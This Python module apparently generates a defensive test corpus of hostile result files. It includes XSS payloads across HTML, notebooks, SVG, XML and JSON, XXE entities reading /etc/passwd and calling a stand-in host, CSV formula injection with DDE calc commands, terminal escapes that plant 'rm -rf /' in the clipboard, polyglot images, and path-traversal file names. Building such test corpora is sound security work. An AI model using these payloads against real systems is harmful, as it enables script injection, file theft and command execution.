"""Active content of every kind that a script may leave among its results: a file name and its bytes each."""

import io
import json
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import quoteattr

HERE = Path(__file__).parent
RUN = "canary(self.origin)"
SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
TAG = f"<script>{RUN}</script><img src=x onerror={RUN}>"
PAGE = f"<!doctype html><html><head><title>x</title></head><body>{TAG}</body></html>"
# Names under which some browser or server has once shown HTML or run a script.
SNIFFED_NAMES = [
    "page",
    "page.txt",
    "page.log",
    "page.text",
    "page.rst",
    "page.xml",
    "page.xhtml",
    "page.xht",
    "page.xsl",
    "page.xslt",
    "page.rdf",
    "page.rss",
    "page.atom",
    "page.svgz",
    "page.mht",
    "page.mhtml",
    "page.hta",
    "page.htc",
    "page.shtml",
    "page.phtml",
    "page.php",
    "page.asp",
    "page.jsp",
    "page.htm.bak",
    "page.html.",
    "page.html%00.txt",
    "page.html;.png",
    "page.swf",
    "page.xap",
    "page.jar",
    "page.class",
    "page.appcache",
    "page.manifest",
    "page.webmanifest",
    "page.vtt",
    "page.srt",
    "page.wasm",
    "page.cer",
    "page.json5",
    "page.ics",
    "page.eml",
    "page.msg",
    "page.url",
    "page.lnk",
    "page.xul",
]
SCRIPT_NAMES = [
    "sw.js",
    "app.mjs",
    "module.cjs",
    "app.ts",
    "style.css",
    "app.jsx",
    "app.coffee",
    "app.vbs",
    "worker.js.txt",
    "app.wat",
]


@dataclass(frozen=True)
class Payload:
    """One hostile file."""

    path: str
    content: bytes


def payloads(family: str, evil: str = "http://elsewhere.example", other: str = "../") -> Iterator[Payload]:
    """Those of one family. `evil` is a site elsewhere, `other` the raw address of another hostile result."""
    for number, (path, content) in enumerate(FAMILIES[family](), 1):
        raw = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
        tokens = {"@RUN@": RUN, "@URL@": f"/hole/{number}", "@EVIL@": f"{evil}/{number}", "@RAW@": other}
        for token, value in tokens.items():
            raw = raw.replace(token.encode(), value.encode())
        yield Payload(path.replace("#", str(number)), raw)


def markup() -> list[str]:
    lines = (HERE / "markup.txt").read_text().splitlines()
    return [line for line in lines if not line.startswith("#")]


def _html() -> Iterator[tuple[str, str]]:
    for number, line in enumerate(markup()):
        name = "report-#.HTM" if number % 10 == 9 else "report-#.html"
        yield name, f"<!doctype html><html><head><title>x</title></head><body>{line}\n</body></html>"


def _markdown() -> Iterator[tuple[str, str]]:
    for line in markup()[::6]:
        yield "readme-#.md", f"# Report\n\n{line}\n\nAnd a line with {line} inside.\n"
    for line in MARKDOWN:
        yield "readme-#.markdown", line


def _notebooks() -> Iterator[tuple[str, str]]:
    for line in markup()[3::6]:
        yield "book-#.ipynb", _book({"output_type": "display_data", "data": {"text/html": [line, "\n"]}})
    for mime in (
        "application/javascript",
        "text/javascript",
        "image/svg+xml",
        "text/latex",
        "text/markdown",
        "text/plain",
    ):
        yield "book-#.ipynb", _book({"output_type": "execute_result", "data": {mime: TAG}, "metadata": {}})
    for mime in (
        "application/vnd.plotly.v1+json",
        "application/vnd.jupyter.widget-view+json",
        "application/json",
    ):
        yield "book-#.ipynb", _book({"output_type": "display_data", "data": {mime: {TAG: [TAG]}}})
    for name in (f'image/png" onerror="{RUN}', "image/png", "image/jpeg", 'text/html" x="', TAG):
        yield "book-#.ipynb", _book({"output_type": "display_data", "data": {name: f'" onerror="{RUN}" x="'}})
    for line in LOGS:
        yield "book-#.ipynb", _book({"output_type": "stream", "name": TAG, "text": line})
    yield (
        "book-#.ipynb",
        _book({"output_type": "error", "ename": TAG, "evalue": TAG, "traceback": [TAG, LOGS[0]]}),
    )
    attached = {"x.png": {"image/svg+xml": f'<svg xmlns="{SVG}" onload="{RUN}"/>', "text/html": TAG}}
    cell = {"cell_type": "markdown", "source": "![x](attachment:x.png)" + TAG, "attachments": attached}
    yield "book-#.ipynb", json.dumps({"cells": [cell], "metadata": {"language_info": {"name": TAG}}})
    yield (
        "book-#.ipynb",
        json.dumps({"cells": [{"cell_type": TAG, "source": TAG, "metadata": {"tags": [TAG]}}]}),
    )
    yield "book-#.ipynb", "{" + TAG


def _book(output: object) -> str:
    cell = {"cell_type": "code", "source": f"</pre>{TAG}", "execution_count": 1, "outputs": [output]}
    return json.dumps({"cells": [cell], "nbformat": 4})


def _svg() -> Iterator[tuple[str, str]]:
    for inside in SVGS:
        yield (
            "plot-#.svg",
            f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">{inside}</svg>',
        )
    yield "plot-#.svg", f'<svg xmlns="{SVG}" onload="{RUN}" onclick="{RUN}" onfocusin="{RUN}" tabindex="1"/>'
    yield (
        "plot-#.svg",
        f'<!DOCTYPE svg [<!ENTITY x "&lt;script>{RUN}&lt;/script>">]><svg xmlns="{SVG}">&x;</svg>',
    )
    yield (
        "plot-#.svg",
        f'<!DOCTYPE svg SYSTEM "@URL@" [<!ENTITY % x SYSTEM "@EVIL@"> %x;]><svg xmlns="{SVG}"/>',
    )
    yield "plot-#.svg", f'<?xml-stylesheet type="text/css" href="@URL@"?><svg xmlns="{SVG}"/>'
    yield (
        "plot-#.svg",
        f'<?xml-stylesheet type="text/xsl" href="#s"?><svg xmlns="{SVG}" id="s">{_xslt()}</svg>',
    )
    yield "plot-#.SVG", PAGE


def _xml() -> Iterator[tuple[str, str]]:
    html = f'<html xmlns="{XHTML}"><script>{RUN}</script><img src="@URL@" onerror="{RUN}"/></html>'
    heads = (
        "",
        '<?xml version="1.0"?>',
        '<?xml-stylesheet type="text/xsl" href="@URL@"?>',
        "<!DOCTYPE html>",
    )
    for suffix in ("xml", "xhtml", "xsl", "rss"):
        for head in heads:
            yield f"page-#.{suffix}", head + html
    sheet = f'<?xml-stylesheet type="text/xsl" href={quoteattr("data:text/xml," + _xslt())}?><x/>'
    yield "sheet-#.xml", sheet
    yield "sheet-#.xml", '<?xml-stylesheet type="text/xsl" href="#s"?>' + _xslt()
    yield "bomb-#.xml", '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;</x>'
    yield (
        "entity-#.xml",
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "@EVIL@">]><x>&a;&b;</x>',
    )


def _xslt() -> str:
    return (
        '<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><html xmlns="{XHTML}"><script>{RUN}</script></html></xsl:template></xsl:stylesheet>'
    )


def _tables() -> Iterator[tuple[str, str]]:
    for cell in CELLS:
        quoted = cell.replace('"', '""')
        yield "table-#.csv", f'name,"{quoted}"\n"{quoted}",1\n"{quoted}",2\n'


def _json() -> Iterator[tuple[str, str]]:
    for value in (TAG, "</script>" + TAG, "\u2028" + TAG, "{{constructor.constructor('" + RUN + "')()}}"):
        yield "data-#.json", json.dumps({value: [value, {"__proto__": {"x": value}}]}, ensure_ascii=False)
        yield "data-#.ndjson", json.dumps(value) + "\n" + value
        yield "data-#.geojson", "{" + value


def _pdf() -> Iterator[tuple[str, bytes]]:
    for action in PDF_ACTIONS:
        yield "paper-#.pdf", _pdf_with(action)
    yield "paper-#.pdf", b"%PDF-1.4\n" + PAGE.encode()
    yield "paper-#.pdf", PAGE.encode()


def _pdf_with(action: str) -> bytes:
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction {action}/AA<</WC {action}/DS {action}>>/AcroForm<</Fields[4 0 R]>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Annots[4 0 R]/AA<</O {action}>>>>",
        f"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/Rect[0 0 300 300]/A {action}/AA<</E {action}/D {action}>>>>",
    ]
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = (
        f"xref\n0 5\n0000000000 65535 f \n{table}trailer<</Size 5/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF"
    )
    return out + end.encode()


def _polyglots() -> Iterator[tuple[str, bytes]]:
    page = PAGE.encode()
    starts = {
        "gif": b"GIF89a/*\x00\x00\x00*/=1;" + RUN.encode() + b";//",
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde",
        "jpg": b"\xff\xd8\xff\xfe/*",
        "webp": b"RIFF\xff\x00\x00\x00WEBPVP8 ",
        "bmp": b"BM=1;" + RUN.encode() + b"//",
        "pdf": b"%PDF-1.4\n",
        "zip": b"PK\x03\x04",
        "gz": b"\x1f\x8b\x08\x00",
        "wasm": b"\x00asm\x01\x00\x00\x00",
    }
    for suffix, start in starts.items():
        yield f"both-#.{suffix}", start + page
        yield f"both-#-{suffix}.txt", start + page
        yield f"both-#-{suffix}", start + page
    for suffix in ("png", "jpeg", "gif", "webp"):
        yield f"only-#.{suffix}", page
        yield f"vector-#.{suffix}", f'<svg xmlns="{SVG}" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.html", PAGE)
    yield "both-#.html.zip", packed.getvalue()
    yield "squeezed-#.html.gz", zlib.compress(page)
    for mark, encoding in ((b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"), (b"", "utf-7")):
        yield "wide-#.txt", mark + PAGE.encode(encoding)
    yield (
        "latin-#.txt",
        b"\xe0\xff<script>" + RUN.encode() + b"</script>\x1b$B<img src=x onerror=" + RUN.encode() + b">",
    )


def _sniffed() -> Iterator[tuple[str, str]]:
    for name in SNIFFED_NAMES:
        yield f"#/{name}", PAGE
    for name in SCRIPT_NAMES:
        yield f"#/{name}", f"/*{TAG}*/ {RUN}; fetch('@URL@')"


def _logs() -> Iterator[tuple[str, str]]:
    for line in LOGS:
        yield "run-#.log", f"epoch 1\r{line}\nepoch 2\n"


def _names() -> Iterator[tuple[str, str]]:
    for name in NAMES:
        yield f"#/{name}", f"{name} 1\n"


MARKDOWN = (HERE / "markdown.txt").read_text().splitlines()
SVGS = (HERE / "svg.txt").read_text().splitlines()
PDF_ACTIONS = (HERE / "pdf_actions.txt").read_text().splitlines()
CELLS = (
    TAG,
    '"><script>' + RUN + "</script>",
    f'=HYPERLINK("javascript:{RUN}","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "+1+cmd|'x'!A0",
    "-2+3+cmd|'x'!A0",
    '=WEBSERVICE("@EVIL@")',
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    "\x1b]8;;javascript:" + RUN + "\x07x\x1b]8;;\x07",
    "</td></table>" + TAG,
    "<!--" + TAG,
    "\u202e" + TAG,
)
LOGS = (
    f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\",
    f"\x1b]8;;@URL@\x07{TAG}\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    f"\x1b]0;{TAG}\x07",
    f"\x1b]2;{TAG}\x1b\\",
    f"\x1b]1337;File=inline=1:{TAG}\x07",
    f"\x1b]50;{TAG}\x07",
    f"\x1bP{TAG}\x1b\\",
    f"\x1b_{TAG}\x1b\\",
    f"\x1b^{TAG}\x1b\\",
    f"\x1b[31;{TAG}m",
    f'\x1b[31" onmouseover="{RUN}m red',
    f"\x1b[38;2;1;2;3m{TAG}\x1b[0m",
    f"\x1b[2J\x1b[H\x1b[1;1H{TAG}",
    f"\x9b31m{TAG}\x9d8;;javascript:{RUN}\x9cx",
    f"safe\r{TAG}\b\b\b{TAG}",
    f"\u202e{TAG}\u2066{TAG}",
    f"\x00{TAG}",
    f"\x1b[{TAG}",
    f"\x1b]{TAG}",
    f"\x1b(0{TAG}\x1b(B",
    f"http://x/{TAG}",
    f"javascript:{RUN} data:text/html,{TAG}",
)
NAMES = (
    f"<img src=x onerror={RUN}>",
    f'" onload="{RUN}" x="',
    f"' onerror={RUN} x='",
    f"javascript:{RUN}",
    "..%2f..%2fetc%2fpasswd",
    "a\r\nSet-Cookie: sessionid=x.txt",
    "a\u202efdp.html.txt",
    "%0d%0aContent-Type: text@html",
    f"{{{{ {RUN} }}}}",
    f"${{{RUN}}}",
    "con",
    "-rf",
    "a;b=c",
    'a"; filename="evil.html',
    "a\x1b[31m.html",
    "&lt;script&gt;",
    "\ufeffevil.html",
    "a.html\u200b",
)
FAMILIES: dict[str, Callable[[], Iterator[tuple[str, str | bytes]]]] = {
    "html": _html,
    "markdown": _markdown,
    "notebooks": _notebooks,
    "svg": _svg,
    "xml": _xml,
    "tables": _tables,
    "json": _json,
    "pdf": _pdf,
    "polyglots": _polyglots,
    "sniffed": _sniffed,
    "logs": _logs,
    "names": _names,
}
